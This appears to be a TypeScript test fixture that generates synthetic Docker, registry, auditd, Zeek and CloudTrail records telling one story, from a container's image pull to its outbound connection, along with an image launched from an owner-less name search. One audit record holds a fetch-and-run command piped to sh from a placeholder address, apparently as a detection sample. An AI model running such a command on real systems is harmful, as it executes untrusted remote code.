/** Records as engines, registries, hosts and networks write them: one container from its pull to its connection. */

export const storyContainer = 'c'.repeat(64);
export const storyDigest = `sha256:${'a'.repeat(64)}`;
export const storyReference = 'registry.example/team/app:1.0';
const begin = Date.parse('2026-03-01T10:00:00Z') / 1000;

const lines = (records: readonly unknown[]): string => records.map((record) => `${JSON.stringify(record)}\n`).join('');

const engine = (type: string, action: string, id: string, attributes: object, after: number): object => ({
  status: action,
  id,
  Type: type,
  Action: action,
  Actor: { ID: id, Attributes: attributes },
  scope: 'local',
  time: begin + after,
  timeNano: (begin + after) * 1e9,
});

/** `docker events --format '{{json .}}'`. */
export const engineRecords = (): string =>
  lines([
    engine('image', 'pull', storyReference, { name: 'registry.example/team/app' }, 1),
    engine('container', 'create', storyContainer, { image: storyReference, name: 'app' }, 20),
    engine('container', 'start', storyContainer, { image: storyReference, name: 'app' }, 21),
  ]);

/** A notification of Distribution: the only one who says which digest the name led to. */
export const registryRecords = (): string =>
  lines([
    {
      events: [
        {
          id: 'n-1',
          timestamp: '2026-03-01T10:00:00Z',
          action: 'pull',
          target: {
            mediaType: 'application/vnd.oci.image.manifest.v1+json',
            digest: storyDigest,
            repository: 'team/app',
            url: `https://registry.example/v2/team/app/manifests/${storyDigest}`,
            tag: '1.0',
          },
          request: { id: 'r', addr: '10.0.0.5:41000', host: 'registry.example', method: 'GET', useragent: 'docker/27' },
          actor: {},
          source: { addr: 'registry:5000' },
        },
      ],
    },
  ]);

const execution = (serial: number, after: number, pid: number, parent: number, words: readonly string[]): string => {
  const head = `msg=audit(${begin + after}.100:${serial}):`;
  const quoted = words.map((word, index) =>
    /[ "]/.test(word) ? `a${index}=${Buffer.from(word).toString('hex').toUpperCase()}` : `a${index}="${word}"`,
  );
  return [
    `type=SYSCALL ${head} arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=0 a2=0 a3=0 items=2 ppid=${parent} pid=${pid} auid=4294967295 uid=0 gid=0 tty=(none) ses=1 comm="x" exe="${words[0]}" key=(null)`,
    `type=EXECVE ${head} argc=${words.length} ${quoted.join(' ')}`,
    `type=EOE ${head} `,
    '',
  ].join('\n');
};

/** The audit log knows processes, and no containers. */
export const auditRecords = (): string =>
  execution(1, 21, 100, 1, ['/usr/bin/containerd-shim-runc-v2', '-namespace', 'moby', '-id', storyContainer]) +
  execution(2, 60, 102, 100, ['sh', '-c', 'curl -s http://192.0.2.7/x | sh']);

/** Zeek, which saw the machine's own address. */
export const flowRecords = (): string =>
  lines([
    {
      _path: 'conn',
      ts: begin + 62.5,
      uid: 'Ca1',
      'id.orig_h': '10.0.0.5',
      'id.orig_p': 40_000,
      'id.resp_h': '192.0.2.7',
      'id.resp_p': 3333,
      proto: 'tcp',
      conn_state: 'SF',
      local_orig: true,
      orig_bytes: 77,
    },
  ]);

const trail = (id: string, name: string, time: string, request: object, response: object | null): object => ({
  eventVersion: '1.09',
  userIdentity: {
    type: 'IAMUser',
    arn: 'arn:aws:iam::123456789012:user/ann',
    accountId: '123456789012',
    userName: 'ann',
  },
  eventTime: time,
  eventSource: 'ec2.amazonaws.com',
  eventName: name,
  awsRegion: 'eu-west-1',
  sourceIPAddress: '192.0.2.9',
  userAgent: 'terraform/1.9',
  requestParameters: request,
  responseElements: response,
  eventID: id,
  recipientAccountId: '123456789012',
});

/** An image is looked up by name from everybody's, and a machine made of what was found. `owners`: as it should be done. */
export const confusedLaunch = (owners: boolean): string =>
  JSON.stringify({
    Records: [
      trail(
        'search-1',
        'DescribeImages',
        '2026-03-01T10:00:00Z',
        {
          filterSet: { items: [{ name: 'name', valueSet: { items: [{ value: 'ubuntu/images/hvm-ssd/*22.04*' }] } }] },
          ...(owners ? { ownersSet: { items: [{ owner: '099720109477' }] } } : {}),
        },
        null,
      ),
      trail(
        'run-1',
        'RunInstances',
        '2026-03-01T10:00:30Z',
        {
          instancesSet: { items: [{ imageId: 'ami-0123456789abcdef0', minCount: 2, maxCount: 2 }] },
          instanceType: 'p3.large',
        },
        {
          instancesSet: {
            items: ['i-0aaa', 'i-0bbb'].map((instanceId) => ({ instanceId, imageId: 'ami-0123456789abcdef0' })),
          },
        },
      ),
    ],
  });
